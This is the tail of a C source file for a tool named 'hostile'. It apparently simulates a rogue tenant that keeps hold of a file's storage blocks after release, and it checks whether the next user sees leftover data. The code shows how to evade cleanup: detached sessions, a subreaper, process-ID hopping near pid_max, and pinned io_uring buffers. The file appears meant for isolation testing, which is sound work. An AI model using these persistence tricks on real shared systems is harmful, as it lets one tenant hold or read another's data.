        keeper_read(&k, k.own, NULL, &own, why, sizeof why);
    } else {
        keeper_read(&k, k.own, NULL, &own, why, sizeof why);
    }
    if (own.total == 0) own.total = k.size / BLOCK;
    if (o->tech == FORKHOP)
        snprintf(k.detail, sizeof k.detail, "hops=%lu on_target=%lu band=%ld-%ld", hp->hops, hp->on_target, hp->bottom, hp->top);

    note("ready: own %llu/%llu %s", (unsigned long long)own.blocks, (unsigned long long)own.total, k.detail);
    dprintf(status_fd, "hostile-ready tech=%s pgid=%d ino=%llu size=%llu nonzero=%llu own=%llu/%llu%s%s%s%s\n",
            tech_names[o->tech], (int)getpgrp(), (unsigned long long)st.st_ino, (unsigned long long)k.size,
            (unsigned long long)nz, (unsigned long long)own.blocks, (unsigned long long)own.total, k.detail[0] ? " " : "",
            k.detail, why[0] ? " unreadable: " : "", why);
    close(status_fd);
    status_fd = -1;

    double end = now_s() + o->lifetime;
    for (;;) {
        if (now_s() > end) keeper_quit(&k);
        struct pollfd pf = {.fd = ls, .events = POLLIN};
        int r = poll(&pf, 1, o->tech == FORKHOP ? 1 : 1000);
        if (r > 0 && !serve(&k, ls)) keeper_quit(&k);
        if (o->tech == FORKHOP) hop(hp);
    }
}

/* Closes every descriptor from 3 up except those in keep[]. */
static void close_all_but(const int *keep, int n) {
    int lo = 3;
    for (;;) {
        int next = -1;
        for (int i = 0; i < n; i++)
            if (keep[i] >= lo && (next < 0 || keep[i] < next)) next = keep[i];
        if (next < 0) {
            close_range((unsigned)lo, ~0u, 0);
            return;
        }
        if (next > lo) close_range((unsigned)lo, (unsigned)next - 1, 0);
        lo = next + 1;
    }
}

static int run_tenant(struct opts *o) {
    if (o->uid >= 0 && geteuid() == 0) {
        struct rlimit rl = {.rlim_cur = 1ull << 30, .rlim_max = 1ull << 30};
        if (setrlimit(RLIMIT_MEMLOCK, &rl) != 0) {
            if (errno != EPERM) fail_errno("setrlimit RLIMIT_MEMLOCK");
            o->ring_as_root = o->tech == URING_BUF;
        }
    } else if (o->uid >= 0) {
        fail("--uid needs root (to raise RLIMIT_MEMLOCK, write ns_last_pid and drop privileges)");
    }
    int logfd = open(o->log ? o->log : "/dev/null", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (logfd < 0) fail_errno("open %s", o->log);
    int st[2];
    if (pipe2(st, O_CLOEXEC) != 0) fail_errno("pipe");
    int req[2] = {-1, -1}, rep[2] = {-1, -1};
    if (o->tech == FORKHOP && (pipe2(req, O_CLOEXEC) != 0 || pipe2(rep, O_CLOEXEC) != 0)) fail_errno("pipe");
    fflush(stdout);
    pid_t s = fork();
    if (s < 0) fail_errno("fork");
    if (s == 0) {
        /* The helper: a session of its own, the keeper's subreaper, nothing of the file. */
        setsid();
        prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
        int null = open("/dev/null", O_RDONLY);
        dup2(null, 0);
        dup2(logfd, 1);
        dup2(logfd, 2);
        pid_t w = fork();
        if (w < 0) fail_errno("fork");
        if (w == 0) {
            /* The inherited descriptor of /proc/self/fd/N stays for the tenant. */
            int n;
            char extra;
            if (sscanf(o->path, "/proc/self/fd/%d%c", &n, &extra) != 1) n = -1;
            int keep[] = {st[1], req[1], rep[0], n};
            close_all_but(keep, 4);
            status_fd = st[1];
            struct io_uring early;
            if (o->ring_as_root) {
                int r = io_uring_queue_init(8, &early, 0);
                if (r < 0) fail("io_uring_queue_init: %s", strerror(-r));
                o->early_ring = &early;
            }
            drop_to(o->uid, o->gid);
            struct hopper hp = {.req = req[1], .rep = rep[0]};
            if (o->tech == FORKHOP) {
                long pid_max = read_long("/proc/sys/kernel/pid_max", 32768);
                hp.top = pid_max - 16;
                hp.bottom = hp.top - (pid_max / 8 < 4096 ? pid_max / 8 : 4096);
                hp.next = hp.top;
            }
            tenant(o, &hp);
        }
        int keep[] = {req[0], rep[1]};
        close_all_but(keep, 2);
        helper(req[0], rep[1], o->lifetime);
    }
    /* The tenant that was started: it waits for the keeper's line, and goes. */
    close(st[1]);
    int n;
    char extra;
    if (sscanf(o->path, "/proc/self/fd/%d%c", &n, &extra) == 1) close(n);
    if (req[0] >= 0) {
        close(req[0]);
        close(req[1]);
        close(rep[0]);
        close(rep[1]);
    }
    char line[2048];
    size_t got = 0;
    double end = now_s() + 90;
    while (got < sizeof line - 1) {
        struct pollfd pf = {.fd = st[0], .events = POLLIN};
        int left = (int)((end - now_s()) * 1000);
        if (left <= 0) fail("the keeper gave no ready line in 90 s (its log: %s)", o->log ? o->log : "none");
        if (poll(&pf, 1, left) <= 0) continue;
        ssize_t r = read(st[0], line + got, sizeof line - 1 - got);
        if (r <= 0) break;
        got += (size_t)r;
    }
    line[got] = 0;
    waitpid(s, NULL, WNOHANG);
    if (strncmp(line, "hostile-ready ", 14) != 0) {
        line[strcspn(line, "\n")] = 0;
        fprintf(stderr, "hostile: %s: %s\n", tech_names[o->tech], got ? line : "the keeper died before it was ready");
        return 1;
    }
    fputs(line, stdout);
    return 0;
}

static int run_next(const char *path, const char *tag) {
    uint8_t marker[BLOCK];
    pattern(tag, marker);
    int fd = open_target(path);
    struct stat st;
    if (fstat(fd, &st) != 0) fail_errno("fstat %s", path);
    uint64_t size = (uint64_t)st.st_size;
    if (size == 0 || size % BLOCK) fail("%s: size %llu", path, (unsigned long long)size);
    uint8_t *m = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (m == MAP_FAILED) fail_errno("mmap %s", path);
    uint64_t nz = nonzero(m, size);
    fill(m, size, marker);
    struct count c = {0};
    count(m, size, marker, NULL, &c);
    munmap(m, size);
    close(fd);
    printf("hostile-next ino=%llu size=%llu nonzero=%llu marker=%llu/%llu\n", (unsigned long long)st.st_ino,
           (unsigned long long)size, (unsigned long long)nz, (unsigned long long)c.blocks, (unsigned long long)c.total);
    return 0;
}

static int run_ask(const char *path, const char *cmd) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof a.sun_path) fail("socket path too long: %s", path);
    strcpy(a.sun_path, path);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) fail_errno("socket");
    struct timeval tv = {.tv_sec = 60};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) fail_errno("connect %s (is the keeper alive?)", path);
    char line[600];
    snprintf(line, sizeof line, "%s\n", cmd);
    write_all(s, line, strlen(line));
    shutdown(s, SHUT_WR);
    char reply[1024];
    size_t n = 0;
    for (;;) {
        ssize_t r = read(s, reply + n, sizeof reply - 1 - n);
        if (r < 0 && errno == EINTR) continue;
        if (r < 0) fail_errno("no answer from %s in 60 s", path);
        if (r == 0 || (n += (size_t)r) == sizeof reply - 1) break;
    }
    reply[n] = 0;
    if (n == 0) fail("%s closed without answering '%s'", path, cmd);
    fputs(reply, stdout);
    return strncmp(reply, "error", 5) == 0;
}

int main(int argc, char **argv) {
    if (argc < 3) usage();
    const char *sub = argv[1];
    if (strcmp(sub, "ask") == 0) {
        if (argc == 4 && (strcmp(argv[3], "own") == 0 || strcmp(argv[3], "audit") == 0 || strcmp(argv[3], "quit") == 0))
            return run_ask(argv[2], argv[3]);
        if (argc == 5 && strcmp(argv[3], "scan") == 0) {
            char cmd[512];
            snprintf(cmd, sizeof cmd, "scan %s", argv[4]);
            return run_ask(argv[2], cmd);
        }
        usage();
    }
    struct opts o = {.path = argv[2], .tag = "hostile", .uid = -1, .gid = -1, .lifetime = 600};
    const char *marker = NULL;
    for (int i = 3; i < argc; i++) {
        const char *a = argv[i];
        if (i + 1 >= argc) usage();
        const char *v = argv[++i];
        char *end;
        if (strcmp(a, "--sock") == 0) o.sock = v;
        else if (strcmp(a, "--tag") == 0) o.tag = v;
        else if (strcmp(a, "--link-dir") == 0) o.link_dir = v;
        else if (strcmp(a, "--log") == 0) o.log = v;
        else if (strcmp(a, "--marker") == 0) marker = v;
        else if (strcmp(a, "--lifetime") == 0) {
            o.lifetime = strtod(v, &end);
            if (*end || o.lifetime <= 0) usage();
        } else if (strcmp(a, "--uid") == 0 || strcmp(a, "--gid") == 0) {
            long n = strtol(v, &end, 10);
            if (*end || n < 0) usage();
            if (a[2] == 'u') o.uid = n;
            else o.gid = n;
        } else usage();
    }
    if ((o.uid < 0) != (o.gid < 0)) fail("give both --uid and --gid, or neither");
    if (strcmp(sub, "next") == 0) {
        if (!marker) usage();
        if (o.uid >= 0 && geteuid() != 0) fail("--uid needs root");
        drop_to(o.uid, o.gid);
        return run_next(o.path, marker);
    }
    int t = -1;
    for (int i = 0; i < (int)(sizeof tech_names / sizeof *tech_names); i++)
        if (strcmp(sub, tech_names[i]) == 0) t = i;
    if (t < 0 || !o.sock) usage();
    o.tech = (enum tech)t;
    return run_tenant(&o);
}
